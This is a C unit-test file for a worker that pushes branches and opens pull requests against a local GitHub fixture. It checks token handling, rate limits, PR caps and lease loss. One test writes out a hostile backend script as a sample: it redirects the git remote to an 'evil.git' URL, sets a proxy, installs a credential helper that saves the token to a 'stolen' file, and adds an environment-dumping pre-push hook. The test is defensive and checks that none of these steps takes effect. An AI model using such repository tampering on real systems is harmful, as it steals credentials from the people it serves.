/*
 * test_exec_push.c - the real opc-exec-run pushing and opening pull
 * requests against opc-fixture-github: git over HTTP that asks for
 * credentials as GitHub does (401, Basic, the token as password), and the
 * pulls API with its rate limits.  The repository is a bare one under the
 * fixture's --git-root; the worker clones http://127.0.0.1:<port>/acme/
 * demo.git.  A `git` wrapper first on PATH records every git command the
 * worker runs (its argv, and whether the token was in its environment),
 * so the test can say where the token went: the credential helper's
 * environment of the clone and the push, nowhere else.  A lost lease
 * delivers nothing.  KEEP=1 keeps each test's directory.
 */
#include <errno.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>
#include <jansson.h>

#include "exec_fx.h"
#include "opc/util.h"

#ifndef EXEC_RUN_BIN
#error EXEC_RUN_BIN must name the opc-exec-run binary
#endif

#define BRANCH "opcenter/goal/T-1-abcdef12"
#define TOKEN "ghp_pushTestToken0123456789"
#define RO_TOKEN "ghp_readOnlyToken0123456789"

struct fx {
	char *root, *bare, *ws, *req, *out, *gitlog;
	pid_t gh;
	int   port;
};

/* start runs the fixture with extra args. */
static int
start(struct fx *fx, const char *extra)
{
	char *args =
	    xasprintf("--token %s --read-token %s --git-root %s/gh %s", TOKEN,
	        RO_TOKEN, fx->root, extra ? extra : "");

	fx->port = exfx_github(FIXTURE_BIN_DIR, fx->root, args, &fx->gh);
	free(args);
	return (fx->port > 0 ? 0 : -1);
}

static int
setup_with(void **state, const char *extra)
{
	struct fx *fx;
	char      *tmpl = exfx_root("opc-exec-push"), *path;
	FILE      *f;

	if (tmpl == NULL)
		return (-1);
	fx         = xcalloc(1, sizeof(*fx));
	*state     = fx;
	fx->root   = tmpl;
	fx->bare   = xasprintf("%s/gh/acme/demo.git", tmpl);
	fx->ws     = xasprintf("%s/ws", tmpl);
	fx->req    = xasprintf("%s/req.json", tmpl);
	fx->out    = xasprintf("%s/result.json", tmpl);
	fx->gitlog = xasprintf("%s/git.log", tmpl);
	/* the recording git: argv, and whether the token is in its env */
	path = xasprintf("%s/bin/git", tmpl);
	if (exfx_sh("mkdir -p %s/bin", tmpl) != 0 ||
	    (f = fopen(path, "w")) == NULL)
		return (-1);
	fprintf(f,
	    "#!/bin/sh\n"
	    "printf '%%s|' \"${OPC_GIT_TOKEN:+TOKEN_IN_ENV}\" \"$@\" "
	    ">> %s\necho >> %s\nexec /usr/bin/git \"$@\"\n",
	    fx->gitlog, fx->gitlog);
	fclose(f);
	chmod(path, 0755);
	free(path);
	if (exfx_sh(
	        "set -e; cd %s; mkdir -p gh/acme; git init -q --bare -b main "
	        "gh/acme/demo.git; git init -q -b main src; cd src; "
	        "echo hello > README.md; git add -A; git -c user.name=t -c "
	        "user.email=t@example.com commit -q -m init; git push -q "
	        "../gh/acme/demo.git main",
	        tmpl) != 0)
		return (-1);
	return (start(fx, extra));
}

static int
setup(void **state)
{
	return (setup_with(state, NULL));
}

static int
setup_public(void **state)
{
	return (setup_with(state, "--git-public"));
}

static int
teardown(void **state)
{
	struct fx *fx = *state;
	int        rv = exfx_github_stop(fx->gh);

	exfx_unroot(fx->root);
	free(fx->bare);
	free(fx->ws);
	free(fx->req);
	free(fx->out);
	free(fx->gitlog);
	free(fx);
	return (rv);
}

static json_t *
request(const struct fx *fx)
{
	char url[128], api[64];

	snprintf(
	    url, sizeof(url), "http://127.0.0.1:%d/acme/demo.git", fx->port);
	snprintf(api, sizeof(api), "http://127.0.0.1:%d", fx->port);
	return (json_pack(
	    "{s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:[], s:n, s:i, "
	    "s:[], s:i, s:s, s:s, s:b, s:b, s:{s:s}, s:{s:s, s:s}, "
	    "s:{s:s, s:s}}",
	    "run_id", "abcdef12-0000-4000-8000-000000000001", "task_id", "T-1",
	    "proposal_id", "p-1", "decision_id", "d-1", "goal_text",
	    "Add the demo artifact", "repo_key", "demo", "clone_url", url,
	    "base_branch", "main", "task_branch", BRANCH, "allowed_paths",
	    "max_changed_files", "timeout_seconds", 60, "validation_commands",
	    "validation_timeout_seconds", 30, "lane", "local", "backend",
	    "demo_stub", "push_on_success", 1, "open_pr", 1, "backend_spec",
	    "kind", "stub", "git", "author_name", "Test Bot", "author_email",
	    "bot@example.com", "github", "api_url", api, "repo", "acme/demo"));
}

/* run runs the worker with token (NULL: none) and the recording git. */
static json_t *
run(const struct fx *fx, json_t *req, const char *token)
{
	json_error_t e;
	json_t      *r;
	int          rv;

	assert_int_equal(json_dump_file(req, fx->req, JSON_INDENT(2)), 0);
	rv = exfx_sh("%s%s PATH=%s/bin:$PATH %s --request %s --workspace %s "
	             "--out %s > %s/worker.log 2>&1",
	    token ? "OPC_GITHUB_TOKEN=" : "", token ? token : "", fx->root,
	    EXEC_RUN_BIN, fx->req, fx->ws, fx->out, fx->root);
	if (rv != 0)
		(void) exfx_sh("cat %s/worker.log >&2", fx->root);
	assert_int_equal(rv, 0);
	if ((r = json_load_file(fx->out, 0, &e)) == NULL)
		fail_msg("result: %s", e.text);
	return (r);
}

static json_t *
fixture(const struct fx *fx, const char *method, const char *path,
    const char *body)
{
	char   *cmd = xasprintf("curl -s -X %s %s%s%s 'http://127.0.0.1:%d%s'",
	      method, body ? "-d '" : "", body ? body : "", body ? "'" : "",
	      fx->port, path);
	FILE   *p   = popen(cmd, "r");
	json_t *j   = p != NULL ? json_loadf(p, 0, NULL) : NULL;

	if (p != NULL)
		pclose(p);
	free(cmd);
	return (j);
}

static void
pushed(const struct fx *fx, const json_t *r)
{
	assert_int_equal(exfx_sh("test \"$(git --git-dir=%s rev-parse "
	                         "refs/heads/%s)\" = %s",
	                     fx->bare, BRANCH, exfx_rstr(r, "commit_sha")),
	    0);
}

/* nowhere: the token is in no file under the run's directory but the
 * request's environment never written (argv log, result, workspace
 * .git, worker log), nor in what the fixture recorded. */
static void
nowhere(const struct fx *fx, const char *token)
{
	json_t *st   = fixture(fx, "GET", "/_fixture/state", NULL);
	char   *dump = json_dumps(st, 0);

	assert_int_not_equal(
	    exfx_sh("grep -rqa -- '%s' %s", token, fx->root), 0);
	assert_null(strstr(dump, token));
	free(dump);
	json_decref(st);
}

static void
test_push_with_token(void **state)
{
	struct fx *fx  = *state;
	json_t    *req = request(fx), *r, *st, *g;
	size_t     i;
	int        asked = 0;

	r = run(fx, req, TOKEN);
	assert_string_equal(exfx_rstr(r, "status"), "succeeded");
	assert_true(json_is_true(json_object_get(r, "branch_pushed")));
	pushed(fx, r);
	assert_non_null(
	    strstr(exfx_rstr(r, "pull_request_url"), "/acme/demo/pull/1"));
	assert_int_equal(
	    json_integer_value(json_object_get(r, "pull_request_status")),
	    201);
	/* git asked (401) and was answered by the helper, as x-access-token */
	st = fixture(fx, "GET", "/_fixture/state", NULL);
	json_array_foreach (json_object_get(st, "git"), i, g) {
		if (json_integer_value(json_object_get(g, "status")) == 401)
			asked++;
		else
			assert_string_equal(
			    exfx_rstr(g, "user"), "x-access-token");
	}
	assert_true(asked >= 2); /* clone and push */
	json_decref(st);
	/* the token: in the environment of the clone, the push and the
	 * ls-remote before it (branch safety asks the remote for its
	 * default branch) only, never in argv, a URL, .git/config, the
	 * result or a log */
	assert_int_equal(
	    exfx_sh("grep -c '^TOKEN_IN_ENV|' %s | grep -qx 3", fx->gitlog),
	    0);
	assert_int_equal(exfx_sh("grep '^TOKEN_IN_ENV|' %s | grep -q "
	                         "'|ls-remote|--symref|'",
	                     fx->gitlog),
	    0);
	assert_int_equal(
	    exfx_sh(
	        "grep '^TOKEN_IN_ENV|' %s | grep -q '|clone|'", fx->gitlog),
	    0);
	assert_int_equal(
	    exfx_sh("grep '^TOKEN_IN_ENV|' %s | grep -q '|push|'", fx->gitlog),
	    0);
	assert_int_equal(
	    exfx_sh("grep -q credential.helper= %s", fx->gitlog), 0);
	nowhere(fx, TOKEN);
	json_decref(r);
	json_decref(req);
}

/* A run that adds three quality suppressions opens its pull request
 * with the original's [quality] note in the body. */
static void
test_pr_quality_note(void **state)
{
	struct fx  *fx  = *state;
	json_t     *req = request(fx), *r, *st;
	const char *body;
	char       *path = xasprintf("%s/backend.sh", fx->root);
	FILE       *f    = fopen(path, "w");

	assert_non_null(f);
	fprintf(f,
	    "#!/bin/sh\nprintf 'import os  # noqa\\ndef f():\\n"
	    "    pass\\nx = g()  # type: ignore\\n' > mod.py\n");
	fclose(f);
	chmod(path, 0755);
	json_object_set_new(req, "backend_spec",
	    json_pack("{s:s, s:[s]}", "kind", "command", "argv", path));
	free(path);
	r = run(fx, req, TOKEN);
	assert_string_equal(exfx_rstr(r, "status"), "succeeded");
	st   = fixture(fx, "GET", "/_fixture/state", NULL);
	body = json_string_value(json_object_get(
	    json_array_get(json_object_get(st, "pulls"), 0), "body"));
	assert_non_null(body);
	assert_non_null(strstr(body, "Run: abcdef12"));
	assert_non_null(strstr(body,
	    "\n[quality] This run added 3 quality suppressions: "
	    "{\"noqa\": 1, \"type_ignore\": 1, \"pass\": 1}. "
	    "Review before merging."));
	assert_string_equal(
	    exfx_rstr(r, "quality_note"), strstr(body, "[quality]"));
	json_decref(st);
	json_decref(r);
	json_decref(req);
}

/* The bug: a remote that needs auth, and no way for git to get it.  The
 * push failed ("could not read Username ... terminal prompts disabled")
 * and the run still said succeeded. */
static void
test_push_refused_fails_the_run(void **state)
{
	struct fx *fx  = *state;
	json_t    *req = request(fx), *r;

	json_object_set_new(req, "open_pr", json_false());
	r = run(fx, req, NULL);
	assert_string_equal(exfx_rstr(r, "status"), "failed");
	assert_false(json_is_true(json_object_get(r, "success")));
	assert_string_equal(exfx_rstr(r, "failure_category"), "infra_tooling");
	assert_non_null(strstr(exfx_rstr(r, "failure_reason"), "git push"));
	assert_non_null(strstr(
	    exfx_rstr(r, "failure_reason"), "terminal prompts disabled"));
	assert_false(json_is_true(json_object_get(r, "branch_pushed")));
	json_decref(r);
	/* a token that may read, not write: GitHub's words on the board */
	(void) rmtree(fx->ws);
	r = run(fx, req, RO_TOKEN);
	assert_string_equal(exfx_rstr(r, "failure_category"), "infra_tooling");
	assert_non_null(strstr(exfx_rstr(r, "failure_reason"),
	    "Permission to acme/demo.git denied"));
	nowhere(fx, RO_TOKEN);
	json_decref(r);
	json_decref(req);
}

/* A backend that turns the workspace's .git against the token: another
 * remote URL, a proxy, a credential helper and a pre-push hook of its
 * own.  The push goes to the clone URL, and none of them runs. */
static void
test_tampered_workspace(void **state)
{
	struct fx *fx   = *state;
	json_t    *req  = request(fx), *r;
	char      *path = xasprintf("%s/backend.sh", fx->root);
	FILE      *f    = fopen(path, "w");

	assert_non_null(f);
	fprintf(f,
	    "#!/bin/sh\nset -e\n"
	    "git config remote.origin.url http://127.0.0.1:9/evil.git\n"
	    "git config http.proxy http://127.0.0.1:9\n"
	    "git config credential.helper '!f() { cat > %s/stolen; }; f'\n"
	    "printf '#!/bin/sh\\nenv > %s/hookenv\\n' > .git/hooks/pre-push\n"
	    "chmod +x .git/hooks/pre-push\n"
	    "echo changed > README.md\n",
	    fx->root, fx->root);
	fclose(f);
	chmod(path, 0755);
	json_object_set_new(req, "backend_spec",
	    json_pack("{s:s, s:[s]}", "kind", "command", "argv", path));
	json_object_set_new(req, "open_pr", json_false());
	r = run(fx, req, TOKEN);
	assert_string_equal(exfx_rstr(r, "status"), "succeeded");
	pushed(fx, r);
	assert_int_not_equal(exfx_sh("test -e %s/stolen", fx->root), 0);
	assert_int_not_equal(exfx_sh("test -e %s/hookenv", fx->root), 0);
	nowhere(fx, TOKEN);
	free(path);
	json_decref(r);
	json_decref(req);
}

/* A secondary rate limit on the POST is waited out (retry-after: 1) and
 * the pull request opened; a primary one that lifts in an hour is not
 * waited for: the run fails with the reason, the branch stays pushed. */
static void
test_pr_rate_limits(void **state)
{
	struct fx *fx  = *state;
	json_t    *req = request(fx), *r;
	int64_t    t0;

	json_decref(fixture(fx, "POST", "/_fixture/rate_limit",
	    "{\"kind\":\"secondary\",\"count\":1,"
	    "\"retry_after\":1}"));
	t0 = mono_ms();
	r  = run(fx, req, TOKEN);
	assert_string_equal(exfx_rstr(r, "status"), "succeeded");
	assert_non_null(exfx_rstr(r, "pull_request_url"));
	assert_true(mono_ms() - t0 >= 1000); /* it did wait */
	assert_int_equal(
	    exfx_sh("grep -q 'secondary rate limit' %s/worker.log", fx->root),
	    0);
	json_decref(r);

	(void) rmtree(fx->ws);
	json_object_set_new(
	    req, "task_branch", json_string("opcenter/goal/T-2-x"));
	json_decref(fixture(fx, "POST", "/_fixture/rate_limit",
	    "{\"kind\":\"primary\",\"reset_in\":3600}"));
	t0 = mono_ms();
	r  = run(fx, req, TOKEN);
	assert_true(mono_ms() - t0 < 30000); /* not an hour */
	assert_string_equal(exfx_rstr(r, "status"), "failed");
	assert_false(json_is_true(json_object_get(r, "success")));
	assert_string_equal(exfx_rstr(r, "failure_category"), "infra_tooling");
	assert_non_null(strstr(exfx_rstr(r, "failure_reason"),
	    "pull request not opened: GitHub primary rate "
	    "limit (HTTP 403) until"));
	assert_non_null(
	    strstr(exfx_rstr(r, "failure_reason"), "opcenter/goal/T-2-x"));
	assert_int_equal(
	    json_integer_value(json_object_get(r, "pull_request_status")),
	    403);
	assert_true(json_is_true(json_object_get(r, "branch_pushed")));
	assert_true(json_is_null(json_object_get(r, "pull_request_url")));
	json_decref(r);
	json_decref(req);
}

/* 401 on the POST: final, no retry, its status in the result (the
 * daemon raises credential.invalid from it). */
static void
test_pr_refused(void **state)
{
	struct fx *fx  = *state;
	json_t    *req = request(fx), *r, *st;

	json_decref(fixture(
	    fx, "POST", "/_fixture/fail", "{\"status\":401,\"count\":1}"));
	r = run(fx, req, TOKEN);
	assert_string_equal(exfx_rstr(r, "status"), "failed");
	assert_int_equal(
	    json_integer_value(json_object_get(r, "pull_request_status")),
	    401);
	assert_non_null(strstr(
	    exfx_rstr(r, "pull_request_error"), "HTTP 401: Bad credentials"));
	st = fixture(fx, "GET", "/_fixture/state", NULL);
	assert_int_equal(
	    json_integer_value(json_object_get(st, "api_requests")),
	    1); /* not retried */
	json_decref(st);
	json_decref(r);

	json_decref(req);
}

/* Local remotes (most tests, and file://) push the same way, with or
 * without a token, which git then never sees. */
static void
test_local_remote(void **state)
{
	struct fx *fx  = *state;
	json_t    *req = request(fx), *r;
	char      *url = xasprintf("file://%s", fx->bare);

	json_object_set_new(req, "clone_url", json_string(fx->bare));
	json_object_set_new(req, "open_pr", json_false());
	r = run(fx, req, TOKEN);
	assert_string_equal(exfx_rstr(r, "status"), "succeeded");
	pushed(fx, r);
	assert_int_not_equal(
	    exfx_sh("grep -q '^TOKEN_IN_ENV' %s", fx->gitlog), 0);
	json_decref(r);
	(void) rmtree(fx->ws);
	json_object_set_new(req, "clone_url", json_string(url));
	json_object_set_new(
	    req, "task_branch", json_string("opcenter/goal/T-4-x"));
	r = run(fx, req, NULL);
	assert_string_equal(exfx_rstr(r, "status"), "succeeded");
	assert_true(json_is_true(json_object_get(r, "branch_pushed")));
	json_decref(r);
	free(url);
	json_decref(req);
}

/* lease_file writes the run's lease file as the executor does: stop at
 * stop_at (monotonic ms; 0: taken back). */
static char *
lease_file(const struct fx *fx, int64_t stop_at)
{
	char *p = xasprintf("%s/run.lease", fx->root);
	FILE *f = fopen(p, "w");

	assert_non_null(f);
	fprintf(f, "stop_at %lld\n", (long long) stop_at);
	fclose(f);
	return (p);
}

/* nothing_delivered: no branch in the repository, no pull request. */
static void
nothing_delivered(const struct fx *fx, const json_t *r)
{
	json_t *st = fixture(fx, "GET", "/_fixture/state", NULL);

	assert_string_equal(exfx_rstr(r, "status"), "interrupted");
	assert_false(json_is_true(json_object_get(r, "success")));
	assert_true(json_is_true(json_object_get(r, "lease_lost")));
	assert_non_null(
	    strstr(exfx_rstr(r, "failure_reason"), "lease was lost"));
	assert_true(json_is_null(json_object_get(r, "pull_request_url")));
	assert_int_equal(
	    json_integer_value(json_object_get(st, "api_requests")), 0);
	json_decref(st);
}

/* A lost lease (opc/lease.h): the run stops and delivers nothing after
 * it.  (1) It lapses while the backend runs: the backend is stopped, no
 * push, no pull request.  (2) The router takes the run back as the
 * backend ends: the check before the push stops it.  (3) It is taken
 * back while git pushes: the branch is there, but no pull request is
 * opened. */
static void
test_lease_lost(void **state)
{
	struct fx *fx  = *state;
	json_t    *req = request(fx), *r;
	char      *be  = xasprintf("%s/backend.sh", fx->root), *lf;
	char      *git = xasprintf("%s/bin/git", fx->root);
	FILE      *f;

	/* (1) */
	lf = lease_file(fx, mono_ms() + 3000);
	f  = fopen(be, "w");
	assert_non_null(f);
	fprintf(f,
	    "#!/bin/sh\nsleep 60\necho late > README.md\n"
	    "touch %s/backend_done\n",
	    fx->root);
	fclose(f);
	chmod(be, 0755);
	/* (2)'s backend takes the lease back itself, as the executor
	 * would: the one file outside its workspace it may write */
	json_object_set_new(req, "backend_spec",
	    json_pack("{s:s, s:[s], s:[s]}", "kind", "command", "argv", be,
	        "sandbox_rw_paths", lf));
	json_object_set_new(req, "lease_file", json_string(lf));
	json_object_set_new(req, "lease_ms", json_integer(6000));
	r = run(fx, req, TOKEN);
	nothing_delivered(fx, r);
	assert_false(json_is_true(json_object_get(r, "branch_pushed")));
	assert_int_not_equal(exfx_sh("test -e %s/backend_done", fx->root), 0);
	assert_int_not_equal(exfx_sh("git --git-dir=%s rev-parse -q --verify "
	                             "refs/heads/%s",
	                         fx->bare, BRANCH),
	    0);
	assert_int_equal(
	    exfx_sh("grep -q 'lease lost' %s/worker.log", fx->root), 0);
	json_decref(r);
	free(lf);

	/* (2) a backend that changes the file, and as it ends the lease
	 * file says taken back */
	(void) rmtree(fx->ws);
	lf = lease_file(fx, mono_ms() + 600000);
	f  = fopen(be, "w");
	assert_non_null(f);
	fprintf(f,
	    "#!/bin/sh\necho changed > README.md\n"
	    "printf 'stop_at 0\\n' > %s\n",
	    lf);
	fclose(f);
	r = run(fx, req, TOKEN);
	nothing_delivered(fx, r);
	assert_false(json_is_true(json_object_get(r, "branch_pushed")));
	assert_int_not_equal(exfx_sh("git --git-dir=%s rev-parse -q --verify "
	                             "refs/heads/%s",
	                         fx->bare, BRANCH),
	    0);
	json_decref(r);

	/* (3) the lease is taken away while git pushes: the push, started
	 * with the lease, ends on its own (a push cut after the remote took
	 * it would leave a branch the result says was not pushed), and the
	 * result says what the remote holds */
	(void) rmtree(fx->ws);
	free(lf);
	lf = lease_file(fx, mono_ms() + 600000);
	f  = fopen(be, "w");
	assert_non_null(f);
	fprintf(f, "#!/bin/sh\necho changed > README.md\n");
	fclose(f);
	f = fopen(git, "w");
	assert_non_null(f);
	fprintf(f,
	    "#!/bin/sh\n"
	    "for a; do [ \"$a\" = push ] && printf 'stop_at 0\\n' > %s "
	    "&& sleep 1; done\nexec /usr/bin/git \"$@\"\n",
	    lf);
	fclose(f);
	r = run(fx, req, TOKEN);
	nothing_delivered(fx, r);
	assert_true(json_is_true(json_object_get(r, "branch_pushed")));
	assert_int_equal(exfx_sh("git --git-dir=%s rev-parse -q --verify "
	                         "refs/heads/%s",
	                     fx->bare, BRANCH),
	    0);
	json_decref(r);
	free(lf);
	free(be);
	free(git);
	json_decref(req);
}

/* With a mirror (mirror.c) over https as GitHub serves it: the token
 * reaches the mirror's fetch and the push (through the helper, in their
 * environment) and nothing else; the workspace's clone of the mirror is
 * local.  The mirror keeps no credential, and its origin and the
 * workspace's are the real remote.  Without the token the fetch fails
 * the run as infra_tooling with git's words. */
static void
test_mirror_over_https(void **state)
{
	struct fx *fx      = *state;
	json_t    *req     = request(fx), *r;
	char      *mirrors = xasprintf("%s/mirrors", fx->root);

	json_object_set_new(req, "open_pr", json_false());
	json_object_set_new(req, "mirror",
	    json_pack("{s:s, s:i, s:i}", "dir", mirrors, "fetch_interval_ms",
	        0, "gc_interval_ms", 86400000));
	r = run(fx, req, TOKEN);
	assert_string_equal(exfx_rstr(r, "status"), "succeeded");
	pushed(fx, r);
	json_decref(r);
	/* fetch, ls-remote (branch safety), push */
	assert_int_equal(
	    exfx_sh("grep -c '^TOKEN_IN_ENV|' %s | grep -qx 3", fx->gitlog),
	    0);
	assert_int_equal(
	    exfx_sh(
	        "grep '^TOKEN_IN_ENV|' %s | grep -q '|fetch|'", fx->gitlog),
	    0);
	assert_int_equal(
	    exfx_sh("grep '^TOKEN_IN_ENV|' %s | grep -q '|push|'", fx->gitlog),
	    0);
	assert_int_equal(
	    exfx_sh("grep -q '^|clone|.*|--shared|' %s", fx->gitlog), 0);
	assert_int_equal(exfx_sh("grep -q 'objects$' %s/ws/.git/objects/info/"
	                         "alternates && test \"$(git -C %s/ws remote "
	                         "get-url origin)\" = "
	                         "http://127.0.0.1:%d/acme/demo.git",
	                     fx->root, fx->root, fx->port),
	    0);
	nowhere(fx, TOKEN);
	/* the next run fetches into the same mirror */
	(void) rmtree(fx->ws);
	json_object_set_new(req, "task_branch", json_string(BRANCH "-2"));
	r = run(fx, req, TOKEN);
	assert_string_equal(exfx_rstr(r, "status"), "succeeded");
	json_decref(r);
	/* no token: the private repository's fetch is refused */
	(void) rmtree(fx->ws);
	r = run(fx, req, NULL);
	assert_string_equal(exfx_rstr(r, "status"), "failed");
	assert_string_equal(exfx_rstr(r, "failure_category"), "infra_tooling");
	assert_non_null(
	    strstr(exfx_rstr(r, "failure_reason"), "git fetch http"));
	assert_non_null(strstr(
	    exfx_rstr(r, "failure_reason"), "terminal prompts disabled"));
	nowhere(fx, TOKEN);
	json_decref(r);
	json_decref(req);
	free(mirrors);
}

/* api calls the fixture's REST API with the token: the answer (new). */
static json_t *
api(const struct fx *fx, const char *method, const char *path,
    const char *body)
{
	char   *cmd = xasprintf("curl -s -X %s -H 'Authorization: Bearer %s' "
	                          "%s%s%s 'http://127.0.0.1:%d%s'",
	      method, TOKEN, body ? "-d '" : "", body ? body : "",
            body ? "'" : "", fx->port, path);
	FILE   *p   = popen(cmd, "r");
	json_t *j   = p != NULL ? json_loadf(p, 0, NULL) : NULL;

	if (p != NULL)
		pclose(p);
	free(cmd);
	assert_non_null(j);
	return (j);
}

/* pr_only runs opc-exec-run --pr-only on the request (as the executor's
 * queue does) and returns its answer. */
static json_t *
pr_only(const struct fx *fx, json_t *req)
{
	char        *out = xasprintf("%s/pr.json", fx->root);
	json_error_t e;
	json_t      *r;
	int          rv;

	assert_int_equal(json_dump_file(req, fx->req, JSON_INDENT(2)), 0);
	rv = exfx_sh("OPC_GITHUB_TOKEN=%s %s --pr-only --request %s --out %s "
	             ">> %s/worker.log 2>&1",
	    TOKEN, EXEC_RUN_BIN, fx->req, out, fx->root);
	assert_int_equal(rv, 0);
	if ((r = json_load_file(out, 0, &e)) == NULL)
		fail_msg("pr.json: %s", e.text);
	free(out);
	return (r);
}

/* prs_of: the fixture's pull requests of head ref, and of POSTs made. */
static size_t
prs_of(const struct fx *fx, const char *ref, size_t *posts)
{
	json_t *st = fixture(fx, "GET", "/_fixture/state", NULL), *v;
	size_t  i, n = 0;

	json_array_foreach (json_object_get(st, "pulls"), i, v)
		n += strcmp(json_string_value(json_object_get(
		                json_object_get(v, "head"), "ref")),
		         ref) == 0;
	*posts = 0;
	json_array_foreach (json_object_get(st, "requests"), i, v)
		*posts += strncmp(json_string_value(v),
		              "POST /repos/acme/demo/pulls", 27) == 0;
	json_decref(st);
	return (n);
}

static void
caps(json_t *req, const struct fx *fx, int open, int hour, int queued)
{
	char *lock = xasprintf("%s/pr.lock", fx->root);

	json_object_set_new(req, "pr_caps",
	    json_pack("{s:i, s:i, s:i, s:s, s:s}", "max_open_prs", open,
	        "max_prs_per_hour", hour, "queued", queued, "prefix", "goal/",
	        "lock", lock));
	free(lock);
}

/* Issue 20, max_open_prs 1 with one of opcenter's pull requests open
 * (and a human's, not counted): the run succeeds, its branch is pushed,
 * its pull request waits with the reason; --pr-only (the executor's
 * queue) still waits; once the first is closed it opens the run's; a
 * second --pr-only (an executor killed between GitHub's create and its
 * row's delete) finds it and opens no second one. */
static void
test_cap_open_waits(void **state)
{
	struct fx *fx  = *state;
	json_t    *req = request(fx), *r, *p;
	size_t     posts, posts2;

	json_decref(api(fx, "POST", "/repos/acme/demo/pulls",
	    "{\"title\":\"t\",\"head\":\"goal/T-0-00000000\","
	    "\"base\":\"main\"}"));
	json_decref(api(fx, "POST", "/repos/acme/demo/pulls",
	    "{\"title\":\"h\",\"head\":\"feature/x\",\"base\":\"main\"}"));
	caps(req, fx, 1, 0, 0);
	r = run(fx, req, TOKEN);
	assert_string_equal(exfx_rstr(r, "status"), "succeeded");
	assert_true(json_is_true(json_object_get(r, "success")));
	pushed(fx, r);
	assert_string_equal(exfx_rstr(r, "pr_state"), "waiting");
	assert_non_null(strstr(exfx_rstr(r, "pr_wait_reason"),
	    "max_open_prs: 1 of opcenter's pull requests (goal/*) are open, "
	    "the cap is 1"));
	assert_true(json_is_null(json_object_get(r, "pull_request_url")));
	assert_int_equal(prs_of(fx, BRANCH, &posts), 0);
	assert_int_equal(posts, 2);
	/* the queue's re-check: still full */
	p = pr_only(fx, req);
	assert_string_equal(exfx_rstr(p, "pr_state"), "waiting");
	json_decref(p);
	/* a human closes the first: the run's opens */
	json_decref(api(fx, "PATCH", "/repos/acme/demo/pulls/1",
	    "{\"state\":\"closed\"}"));
	p = pr_only(fx, req);
	assert_string_equal(exfx_rstr(p, "pr_state"), "opened");
	assert_non_null(strstr(exfx_rstr(p, "pull_request_url"), "/pull/3"));
	assert_int_equal(prs_of(fx, BRANCH, &posts), 1);
	json_decref(p);
	/* again, as after a crash before the row went: found, not opened */
	p = pr_only(fx, req);
	assert_string_equal(exfx_rstr(p, "pr_state"), "opened");
	assert_non_null(strstr(exfx_rstr(p, "pull_request_url"), "/pull/3"));
	assert_int_equal(prs_of(fx, BRANCH, &posts2), 1);
	assert_int_equal(posts2, posts);
	json_decref(p);
	json_decref(r);
	json_decref(req);
}

/* max_prs_per_hour 1: a pull request of opcenter's created (and closed)
 * in the last hour holds the next; aged past the hour, it opens.  Earlier
 * pull requests queued hold it whatever the counts, asking GitHub
 * nothing. */
static void
test_cap_hourly_and_queued(void **state)
{
	struct fx *fx  = *state;
	json_t    *req = request(fx), *r, *p, *st;
	size_t     posts;
	int64_t    calls;

	caps(req, fx, 0, 1, 2);
	r = run(fx, req, TOKEN);
	assert_true(json_is_true(json_object_get(r, "success")));
	pushed(fx, r);
	assert_string_equal(exfx_rstr(r, "pr_state"), "waiting");
	assert_string_equal(exfx_rstr(r, "pr_wait_reason"),
	    "2 earlier pull requests of this repository wait before it");
	st    = fixture(fx, "GET", "/_fixture/state", NULL);
	calls = json_integer_value(json_object_get(st, "api_requests"));
	json_decref(st);
	assert_int_equal(calls, 0);
	json_decref(r);
	/* the queue's head: an hour's cap of 1, one opened 10 minutes ago */
	json_decref(api(fx, "POST", "/repos/acme/demo/pulls",
	    "{\"title\":\"t\",\"head\":\"goal/T-0-00000000\","
	    "\"base\":\"main\"}"));
	json_decref(api(fx, "PATCH", "/repos/acme/demo/pulls/1",
	    "{\"state\":\"closed\"}"));
	json_decref(fixture(fx, "POST", "/_fixture/pull_age",
	    "{\"repo\":\"acme/demo\",\"number\":1,\"age\":600}"));
	p = pr_only(fx, req);
	assert_string_equal(exfx_rstr(p, "pr_state"), "waiting");
	assert_non_null(strstr(exfx_rstr(p, "pr_wait_reason"),
	    "max_prs_per_hour: 1 of opcenter's pull requests (goal/*) were "
	    "opened in the last hour, the cap is 1"));
	json_decref(p);
	assert_int_equal(prs_of(fx, BRANCH, &posts), 0);
	json_decref(fixture(fx, "POST", "/_fixture/pull_age",
	    "{\"repo\":\"acme/demo\",\"number\":1,\"age\":3700}"));
	p = pr_only(fx, req);
	assert_string_equal(exfx_rstr(p, "pr_state"), "opened");
	assert_int_equal(prs_of(fx, BRANCH, &posts), 1);
	json_decref(p);
	json_decref(req);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(
		    test_cap_open_waits, setup, teardown),
		cmocka_unit_test_setup_teardown(
		    test_cap_hourly_and_queued, setup, teardown),
		cmocka_unit_test_setup_teardown(
		    test_push_with_token, setup, teardown),
		cmocka_unit_test_setup_teardown(
		    test_push_refused_fails_the_run, setup_public, teardown),
		cmocka_unit_test_setup_teardown(
		    test_tampered_workspace, setup, teardown),
		cmocka_unit_test_setup_teardown(
		    test_pr_rate_limits, setup, teardown),
		cmocka_unit_test_setup_teardown(
		    test_pr_refused, setup, teardown),
		cmocka_unit_test_setup_teardown(
		    test_pr_quality_note, setup, teardown),
		cmocka_unit_test_setup_teardown(
		    test_local_remote, setup, teardown),
		cmocka_unit_test_setup_teardown(
		    test_lease_lost, setup, teardown),
		cmocka_unit_test_setup_teardown(
		    test_mirror_over_https, setup, teardown),
	};

	return (cmocka_run_group_tests(tests, NULL, NULL));
}
